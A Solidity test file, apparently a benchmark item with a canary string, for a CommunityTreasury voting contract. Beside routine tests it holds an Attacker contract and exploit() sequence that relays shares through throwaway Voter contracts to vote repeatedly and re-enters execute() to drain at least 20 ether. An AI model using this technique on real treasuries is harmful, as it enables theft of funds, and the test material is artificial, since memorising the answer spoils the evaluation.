// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import "./CommunityTreasury.sol";

// assay-canary-4969bdd9-5848-4687-8cf0-d706e60d25c8

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function roll(uint256 number) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// An account that votes, proposes and gives shares back when it is told to.
contract Voter {
    CommunityTreasury internal treasury;

    constructor(CommunityTreasury treasury_) {
        treasury = treasury_;
    }

    function vote(uint256 id) external {
        treasury.castVote(id, true);
    }

    function propose(address payable payee, uint256 amount) external {
        treasury.propose(payee, amount, "audit");
    }

    function back(uint256 shares) external {
        treasury.transferShares(msg.sender, shares);
    }
}

contract Attacker {
    CommunityTreasury internal treasury;
    uint256 internal id;
    bool internal again;

    receive() external payable {
        if (!again) return;
        again = false;
        try treasury.execute(id) {} catch {}
    }

    function join(CommunityTreasury treasury_) external {
        treasury = treasury_;
    }

    function tryVote() private {
        try treasury.castVote(id, true) {} catch {}
    }

    function _relay(uint256 count) private {
        uint256 mine = treasury.sharesOf(address(this));
        for (uint256 i = 0; i < count; ++i) {
            Voter voter = new Voter(treasury);
            treasury.transferShares(address(voter), mine);
            try voter.vote(id) {} catch {}
            try voter.propose(payable(address(this)), 30 ether) {} catch {}
            voter.back(mine);
        }
    }

    function canvass() external {
        id = treasury.propose(payable(address(this)), 30 ether, "development");
        tryVote();
        tryVote();
        uint256 mine = treasury.sharesOf(address(this));
        treasury.transferShares(address(this), mine);
        tryVote();
        try treasury.transferShares(address(this), mine + 1) {} catch {}
        try treasury.getPastShares(address(this), block.number) {} catch {}
        try treasury.execute(id) {} catch {}
        try treasury.cancel(id) {} catch {}
        address[] memory list = new address[](1);
        list[0] = address(this);
        try treasury.initialize(list, 1000) {} catch {}
        try treasury.grantRole(bytes32(0), address(this)) {} catch {}
        _relay(2);
    }

    function nextBlock() external {
        _relay(2);
        tryVote();
    }

    function late() external {
        tryVote();
        try treasury.execute(id) {} catch {}
    }

    function run() external {
        again = true;
        try treasury.execute(id) {} catch {}
        again = false;
        try treasury.execute(id) {} catch {}
        try treasury.execute(id + 1) {} catch {}
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant START = 1_700_000_000;
    address internal constant GUARDIAN = address(0x6A4D);
    address payable internal constant PAYEE = payable(address(0x5EED));

    CommunityTreasury internal treasury;
    Attacker internal member;
    address[] internal founders;

    function setUp() public {
        vm.warp(START);
        vm.roll(500);
        member = new Attacker();
        for (uint160 i = 1; i < 8; ++i) founders.push(address(0xD0000 + i));
        for (uint256 i = 0; i < 3; ++i) founders.push(address(member));
        treasury = new CommunityTreasury(address(this));
        treasury.initialize(founders, 10);
        treasury.grantRole(treasury.GUARDIAN_ROLE(), GUARDIAN);
        member.join(treasury);
        vm.deal(address(treasury), 50 ether);
        vm.roll(501);
    }

    function _propose(uint256 proposer, address payable payee, uint256 amount) private returns (uint256 id) {
        vm.prank(founders[proposer]);
        id = treasury.propose(payee, amount, "audit");
    }

    function _vote(uint256 voter, uint256 id, bool aye) private {
        vm.prank(founders[voter]);
        treasury.castVote(id, aye);
    }

    function test_Regular() public {
        require(treasury.totalShares() == 100 && treasury.sharesOf(address(member)) == 30, "issued");
        require(treasury.balancePerShare() == 0.5 ether, "per share");
        vm.prank(founders[0]);
        treasury.transferShares(founders[1], 4);
        vm.roll(503);
        require(treasury.getPastShares(founders[0], 500) == 10 && treasury.getPastShares(founders[0], 502) == 6, "history");
        require(treasury.getPastShares(founders[0], 499) == 0 && treasury.getPastShares(founders[1], 501) == 14, "history before");

        uint256 id = _propose(1, PAYEE, 12 ether);
        for (uint256 i = 0; i < 6; ++i) _vote(i, id, true);
        _vote(6, id, false);
        require(treasury.getProposal(id).ayes == 60 && treasury.getProposal(id).noes == 10, "counted");
        vm.warp(START + 8 days);
        treasury.execute(id);
        require(PAYEE.balance == 12 ether && treasury.totalPaid() == 12 ether, "paid");

        id = _propose(1, PAYEE, 12 ether);
        vm.prank(GUARDIAN);
        treasury.cancel(id);
        require(treasury.getProposal(id).closed, "canceled");
        uint256 held = address(treasury).balance;
        (bool success, ) = address(treasury).call{value: 1 ether}("");
        require(success && address(treasury).balance == held + 1 ether, "received");

        bytes32 role = treasury.GUARDIAN_ROLE();
        vm.prank(GUARDIAN);
        treasury.renounceRole(role, GUARDIAN);
        treasury.grantRole(role, PAYEE);
        treasury.revokeRole(role, PAYEE);
        require(!treasury.hasRole(role, GUARDIAN) && !treasury.hasRole(role, PAYEE), "roles");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesShares() public {
        refuses(founders[0], "VotingShares: zero address");
        treasury.transferShares(address(0), 1);
        refuses(founders[0], "VotingShares: insufficient shares");
        treasury.transferShares(founders[1], 11);
        vm.expectRevert("VotingShares: block not finished");
        treasury.getPastShares(founders[0], block.number);
    }

    function test_RefusesSetups() public {
        vm.expectRevert("CommunityTreasury: zero address");
        new CommunityTreasury(address(0));
        CommunityTreasury fresh = new CommunityTreasury(address(this));
        vm.expectRevert("CommunityTreasury: no shares");
        fresh.initialize(founders, 0);
        address[] memory none = new address[](1);
        vm.expectRevert("VotingShares: zero address");
        fresh.initialize(none, 1);
        bytes4 role = IAccessControl.AccessControlUnauthorizedAccount.selector;
        refuses(founders[0], abi.encodeWithSelector(role, founders[0], bytes32(0)));
        fresh.initialize(founders, 1);
        vm.expectRevert(Initializable.InvalidInitialization.selector);
        treasury.initialize(founders, 1);
        bytes32 guardian = treasury.GUARDIAN_ROLE();
        uint256 id = _propose(0, PAYEE, 1 ether);
        refuses(founders[0], abi.encodeWithSelector(role, founders[0], guardian));
        treasury.cancel(id);
        refuses(founders[0], abi.encodeWithSelector(role, founders[0], bytes32(0)));
        treasury.grantRole(guardian, founders[0]);
        refuses(founders[0], abi.encodeWithSelector(role, founders[0], bytes32(0)));
        treasury.revokeRole(guardian, GUARDIAN);
    }

    function test_RefusesProposals() public {
        refuses(founders[0], "CommunityTreasury: zero address");
        treasury.propose(payable(address(0)), 1 ether, "nobody");
        vm.expectRevert("CommunityTreasury: no shares");
        treasury.propose(PAYEE, 1 ether, "no member");
        uint256 id = _propose(0, PAYEE, 1 ether);
        refuses(PAYEE, "CommunityTreasury: no shares");
        treasury.castVote(id, true);
        _vote(0, id, true);
        refuses(founders[0], "CommunityTreasury: already voted");
        treasury.castVote(id, false);
        vm.warp(START + 6 days);
        refuses(founders[1], "CommunityTreasury: voting closed");
        treasury.castVote(id, true);
        vm.prank(GUARDIAN);
        treasury.cancel(id);
        refuses(GUARDIAN, "CommunityTreasury: closed");
        treasury.cancel(id);
    }

    function test_RefusesExecutions() public {
        uint256 half = _propose(0, PAYEE, 1 ether);
        for (uint256 i = 0; i < 5; ++i) _vote(i, half, true);
        uint256 id = _propose(0, PAYEE, 1 ether);
        for (uint256 i = 0; i < 6; ++i) _vote(i, id, true);
        Voter voter = new Voter(treasury);
        uint256 refused = _propose(0, payable(address(voter)), 1 ether);
        for (uint256 i = 0; i < 6; ++i) _vote(i, refused, true);
        vm.warp(START + 8 days - 1);
        vm.expectRevert("CommunityTreasury: too early");
        treasury.execute(id);
        vm.warp(START + 8 days);
        vm.expectRevert("CommunityTreasury: no majority");
        treasury.execute(half);
        vm.expectRevert("CommunityTreasury: payment failed");
        treasury.execute(refused);
        treasury.execute(id);
        vm.expectRevert("CommunityTreasury: closed");
        treasury.execute(id);
        vm.warp(START + 29 days);
        vm.expectRevert("CommunityTreasury: expired");
        treasury.execute(refused);
    }

    function exploit() public {
        member.canvass();
        vm.roll(502);
        member.nextBlock();
        vm.warp(block.timestamp + 6 days);
        member.late();
        vm.warp(block.timestamp + 2 days);
        member.run();
        vm.warp(block.timestamp + 21 days);
        member.late();
    }

    function test_Exploit() public {
        uint256 before = address(member).balance;
        exploit();
        require(address(member).balance - before >= 20 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(treasury);
    }

    function attacker() public view returns (address) {
        return address(member);
    }
}
